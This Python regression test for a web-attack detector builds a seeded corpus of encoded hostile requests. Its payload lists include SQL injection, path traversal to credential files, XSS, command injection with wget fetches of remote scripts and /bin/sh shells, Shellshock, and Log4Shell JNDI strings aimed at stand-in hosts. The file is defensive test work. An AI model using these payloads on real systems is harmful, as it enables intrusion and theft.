"""What the web attack detector finds in a generated hostile corpus, in a comparable form: every finding of every
batch, field for field (severity, factors, recommendation, evidence, samples), and the state it keeps.
``tests/data/web_reference/findings.json.gz`` holds this output as the code gave it before the detector's hot path
was made faster (commit efaf76b); ``test_web_reference`` checks that the faster code gives the same.

The corpus is made by a seeded generator, not written by hand: attack payloads composed from pieces (SQL,
traversal, script, shell, JNDI, remote URLs, sensitive paths, tool markers), each hidden under random layers of
encoding (URL encoding once or twice, ``%u``, HTML entities, SQL comments, ``+``, case, null bytes, overlong
UTF-8), mixed with the real access log's ordinary requests, tool and payload user agents, Log4Shell referrers and
Host headers, statuses with and without a response, from few and from many addresses, in several batches.

Regenerate (only for a change that is meant to alter detection, and say so in the commit):
``PYTHONPATH=. python -m tests.detect.web_reference``
"""

from __future__ import annotations

import gzip
import json
import random
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

from netwarden.detect.web_attack import WebAttack
from netwarden.records import Event, Finding

REFERENCE = Path(__file__).resolve().parents[1] / "data" / "web_reference" / "findings.json.gz"
SEED = 14
REQUESTS = 8_000
BATCH = 1_000  # several batches, so that the state carried from one to the next is compared too
T0 = datetime(2026, 11, 20, 8, 0, tzinfo=timezone.utc)

_SQL = ["' or '1'='1", "1 and 1=1", "' union select null,null--", "-1 union all select user(),version()", "1; drop table users",
        "1 and sleep(5)", "'||'a'='a", "admin'--", "1' order by 3#", "(select 1 from dual)", "x' and extractvalue(1,concat(0x7e,version()))",
        "1 waitfor delay '0:0:5'", "1;exec xp_cmdshell 'dir'", "1 and (select count(*) from information_schema.tables)>0",
        "select * from users where id=1", "' having 1=1--", "char(65,66,67)", "1/*!50000union*/select 1"]
_TRAVERSAL = ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/shadow", "/etc/passwd",
              "php://filter/convert.base64-encode/resource=index.php", "file:///etc/hosts", "../../../.env", "../" * 6,
              "c:/windows/system32", "..;/..;/web-inf/web.xml"]
_XSS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=confirm(1)>", "javascript:alert(document.cookie)",
        "' onmouseover=alert(1) x='", "<iframe src=//evil.example>", "data:text/html,<b>", "';alert(String.fromCharCode(88))//"]
_CMD = ["127.0.0.1;cat /etc/passwd", "x|id", "a && wget http://198.51.100.9/x.sh", "`uname -a`", "$(whoami)", "1;ls -la",
        "x;${IFS}cat${IFS}/etc/passwd", "() { :; }; /bin/bash -c 'id'", "a|/bin/sh -i", "cmd.exe /c dir"]
_JNDI = ["${jndi:ldap://198.51.100.7:1389/a}", "${${lower:j}ndi:rmi://x/y}", "${${::-j}${::-n}${::-d}${::-i}:dns://x}",
         "${env:NOPE:-j}ndi:ldap://a/b}", "${jsonIndex:0}"]
_REMOTE = ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:8080/admin", "http://198.51.100.3/shell.txt?",
           "https://evil.example/x.php", "php://input", "data://text/plain;base64,PD9waHA=", "gopher://127.0.0.1:25/",
           "http://localhost:8080/"]
_SENSITIVE = ["/.env", "/.git/config", "/wp-config.php.bak", "/backup.zip", "/phpmyadmin/", "/server-status", "/.aws/credentials",
              "/db.sql", "/config.php~", "/actuator/env", "/.ssh/id_rsa", "/debug/pprof/", "/index.php.old", "/manager/html",
              "/site.tar.gz", "/.DS_Store", "/phpinfo.php", "/WEB-INF/web.xml", "/.svn/entries", "/secrets.yml"]
_TOOL_URLS = ["/nice%20ports%2C/Trinity.txt.bak", "/?acunetix-wvs-test-for-some-inexistent-file", "/?x=abc.oastify.com",
              "/?u=http://x.interact.sh/"]
_PARAMS = ["id", "q", "page", "file", "include", "next", "redirect", "host", "cmd", "search", "cat", "name", "url"]
_PATHS = ["/index.php", "/item.php", "/search", "/cgi-bin/test.cgi", "/api/v1/items", "/", "/login", "/ping.php"]
_AGENTS = ["Mozilla/5.0 (X11; Linux x86_64)", "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)",
           "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "gobuster/3.6", "masscan/1.3",
           "${jndi:ldap://198.51.100.7/ua}", "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'", "Mozilla/5.0' or 1=1--",
           "<script>alert(1)</script>", "curl/8.4.0", "Fuzz Faster U Fool v2.1.0"]


def _encode(rng: random.Random, text: str) -> str:
    """``text`` under random layers of the encodings attackers use."""
    if rng.random() < 0.15:
        text = "".join(c.upper() if rng.random() < 0.5 else c for c in text)
    if rng.random() < 0.1 and " " in text:
        text = text.replace(" ", "/**/", 1)
    if rng.random() < 0.1:
        text = "".join(f"&#{ord(c)};" if c in "<>'\"" else c for c in text)
    if rng.random() < 0.08:
        text = text.replace("'", "%u0027").replace("<", "%u003c")
    if rng.random() < 0.06:
        text = text.replace("../", "%c0%ae%c0%ae/")
    layers = rng.choice((0, 1, 1, 1, 2, 3))
    for _ in range(layers):
        text = "".join(c if c.isalnum() or c in "/._-" or rng.random() < 0.3 else f"%{ord(c):02X}" if ord(c) < 256 else c
                       for c in text)
    if rng.random() < 0.2:
        text = text.replace("%20", "+").replace(" ", "+")
    if rng.random() < 0.05:
        text += "%00.png"
    return text


def _attack_url(rng: random.Random) -> str:
    kind = rng.randrange(8)
    if kind == 6:
        path = rng.choice(_SENSITIVE)
        return path if rng.random() < 0.7 else path + "?" + rng.choice(_PARAMS) + "=1"
    if kind == 7:
        return rng.choice(_TOOL_URLS)
    payload = rng.choice((_SQL, _TRAVERSAL, _XSS, _CMD, _JNDI, _REMOTE)[kind])
    if rng.random() < 0.12:  # in the path rather than a parameter
        return rng.choice(_PATHS).rstrip("/") + "/" + _encode(rng, payload)
    query = [f"{rng.choice(_PARAMS)}={rng.randrange(100)}" for _ in range(rng.randrange(3))]
    query.insert(rng.randrange(len(query) + 1), f"{rng.choice(_PARAMS)}={_encode(rng, payload)}")
    return rng.choice(_PATHS) + "?" + "&".join(query)


def _benign_urls(datasets: Path) -> list[str]:
    with gzip.open(datasets / "web-access-logs" / "apache_logs.gz", "rt", encoding="utf-8") as f:
        urls = [line.split('"', 2)[1].split(" ")[1] for line in f if line.count('"') >= 2 and " " in line.split('"', 2)[1]]
    return sorted(set(urls))


def corpus(datasets: Path) -> list[Event]:
    """The seeded hostile corpus: a third ordinary requests, the rest attacks, headers and tools."""
    rng = random.Random(SEED)
    benign = _benign_urls(datasets)
    many = [f"198.51.{i // 200}.{i % 200 + 1}" for i in range(3_000)]
    few = [f"203.0.113.{i}" for i in range(1, 31)] + ["10.0.0.5", "192.168.1.20"]  # two inside (status pages)
    events = []
    for n in range(REQUESTS):
        src = rng.choice(few) if rng.random() < 0.4 else rng.choice(many)
        url: str | None = rng.choice(benign) if rng.random() < 0.3 else _attack_url(rng)
        agent: str | None = rng.choice(_AGENTS) if rng.random() < 0.25 else "Mozilla/5.0 (X11; Linux x86_64)"
        extra: dict[str, Any] = {}
        if rng.random() < 0.04:
            extra["referrer"] = _encode(rng, rng.choice(_JNDI))
        if rng.random() < 0.03:
            extra[rng.choice(("host", "http_host"))] = rng.choice(_JNDI + ["www.example.org", "() { :; }; id"])
        if rng.random() < 0.02:
            url = None if rng.random() < 0.5 else url
            agent = None if url is not None else agent
        status = rng.choice((200, 200, 404, 403, 500, 301, None))
        # without a time, an event takes the last batch's latest (the first batch's would be the wall clock)
        when = T0 + timedelta(milliseconds=137 * n) if rng.random() < 0.99 or n < BATCH else None
        events.append(Event(timestamp=when, source_kind="access_log", src_ip=src if rng.random() < 0.995 else None,
                            dst_ip="192.0.2.10", dst_port=80, http_method="GET", url=url, http_status=status,
                            user_agent=agent, bytes_in=rng.choice((0, 512, 4096, None)), extra=extra))
    return events


def _event(e: Event) -> dict[str, Any]:
    return {"t": e.timestamp.isoformat() if e.timestamp else None, "src": e.src_ip, "url": e.url}


def _finding(f: Finding) -> dict[str, Any]:
    return {"kind": f.kind, "detector": f.detector, "subkind": f.subkind, "severity": str(f.severity),
            "factors": [[x.name, x.weight, x.detail] for x in f.factors], "recommendation": f.recommendation,
            "first": f.first_seen.isoformat(), "last": f.last_seen.isoformat(), "source": f.source, "target": f.target,
            "count": f.count, "signature": f.signature, "evidence": f.evidence,
            "samples": [_event(e) for e in f.samples], "events": len(f.events)}


def outcome(events: list[Event], *, keep_events: bool = False) -> dict[str, Any]:
    """Every batch's findings and the detector's state at the end (JSON-ready)."""
    detector = WebAttack(keep_events=keep_events)
    batches = []
    for i in range(0, len(events), BATCH):
        batches.append([_finding(f) for f in detector.process(events[i:i + BATCH])])
    return {"batches": batches, "state": detector.state()}


def comparable(datasets: Path) -> dict[str, Any]:
    events = corpus(datasets)
    return json.loads(json.dumps({"default": outcome(events), "keep_events": outcome(events[:2_000], keep_events=True)},
                                 sort_keys=True, default=str))


if __name__ == "__main__":
    from tests.conftest import datasets_path

    REFERENCE.parent.mkdir(parents=True, exist_ok=True)
    found = comparable(datasets_path())
    with gzip.open(REFERENCE, "wt", encoding="utf-8") as out:
        json.dump(found, out, sort_keys=True)
    print(f"{sum(len(b) for b in found['default']['batches'])} findings written to {REFERENCE}", file=sys.stderr)
